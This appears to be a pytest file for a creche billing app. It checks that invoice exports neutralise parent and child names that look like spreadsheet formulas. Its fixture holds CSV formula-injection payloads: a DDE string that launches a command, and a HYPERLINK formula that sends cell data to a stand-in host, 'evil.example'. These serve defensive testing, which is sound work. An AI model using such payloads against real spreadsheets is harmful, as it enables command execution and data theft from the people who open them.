"""``crechebooks invoices export`` of names that look like formulas, read back from the files.

A roster may hold any text as a name, including ``=HYPERLINK(...)``: the book
keeps it as typed, and every export writes it as text (issue 10, point 5).
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from crechebooks_desktop.db.book import Book
from crechebooks_desktop.domain.creche import NewCreche
from crechebooks_desktop.importers.fees_csv import import_fees_file
from crechebooks_desktop.importers.roster_csv import import_roster_file
from crechebooks_desktop.services.admin.creches import init_creche
from crechebooks_desktop.services.billing.monthly_run import generate_month
from crechebooks_desktop.settings import Settings
from tests.cli_results import ok
from tests.roster_support import ROSTER_HEADER

pytestmark = pytest.mark.slow

Cli = Callable[..., Any]
CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Statement")'
HOUSEHOLDS = {  # by household_ref: the parent's name, the child's first and last names
    "EVIL01": (CALC, LINK, "Dlamini"),
    "EVIL02": ("@SUM(1+1)", "+Lwazi", "-Naidoo"),
}
# A FULL_DAY fee of R 4 850,00; each child's November invoice is one whole month.
FEE = "Full Day,FULL_DAY,4850.00,,"


@pytest.fixture
def db(book_url: str, tmp_path: Path) -> tuple[str, str]:
    """A book whose roster holds formula-like names, with its November invoices.

    Set up in this process through the same importers ``fees import`` and ``roster
    import`` run; the exports under test run in a separate process.
    """
    (tmp_path / "fees.csv").write_text(
        f"name,fee_type,amount,registration_fee,re_registration_fee\n{FEE}\n", encoding="utf-8"
    )
    with (tmp_path / "roster.csv").open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(ROSTER_HEADER.split(","))
        for ref, (parent, first, last) in HOUSEHOLDS.items():
            child = [f"{ref}-1", first, last, "2022-03-14", "Full Day", "2026-01-01", ""]
            writer.writerow([ref, parent, "", "", *child])
    book, _ = Book.open(Settings(book_url, tmp_path / "in-process-files"))
    try:
        with book.write() as uow:
            _settings, actor = init_creche(uow, NewCreche(name="Acorns", admin_password="demo"))
        with book.write(actor.tenant_id) as uow:
            import_fees_file(uow, actor, tmp_path / "fees.csv", "fees.csv")
        with book.write(actor.tenant_id) as uow:
            import_roster_file(uow, actor, tmp_path / "roster.csv", "roster.csv")
        generate_month(lambda: book.write(actor.tenant_id), actor, dt.date(2026, 11, 1))
    finally:
        book.close()
    return ("--db", book_url)


def test_csv_export_neutralises_formula_like_text(
    cli: Cli, db: tuple[str, str], tmp_path: Path
) -> None:
    ok(cli(*db, "invoices", "export", "--format", "csv", "--out", "invoices.csv"))
    with (tmp_path / "invoices.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_household = {row["Household"]: row for row in rows}
    assert by_household.keys() == HOUSEHOLDS.keys()
    for ref, (parent, first, last) in HOUSEHOLDS.items():
        row = by_household[ref]
        assert row["Parent"] == "'" + parent
        assert row["Child"] == f"'{first} {last}"
        assert row["Total"] == row["Balance due"] == "4850.00"


def test_xlsx_export_stores_text_as_strings_and_amounts_as_numbers(
    cli: Cli, db: tuple[str, str], tmp_path: Path
) -> None:
    ok(cli(*db, "invoices", "export", "--format", "xlsx", "--out", "invoices.xlsx"))
    sheet = load_workbook(tmp_path / "invoices.xlsx").active
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    by_household = {row["Household"].value: row for row in rows[:-1]}  # the last: totals
    assert by_household.keys() == HOUSEHOLDS.keys()
    for ref, (parent, first, last) in HOUSEHOLDS.items():
        row = by_household[ref]
        assert (row["Parent"].value, row["Parent"].data_type) == (parent, "s")
        assert (row["Child"].value, row["Child"].data_type) == (f"{first} {last}", "s")
        for name in ("Subtotal", "Total", "Balance due"):
            assert (row[name].value, row[name].data_type) == (4850, "n")
    formulas = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == [f"=SUM({col}2:{col}3)" for col in "IJKLMN"]  # only the totals row
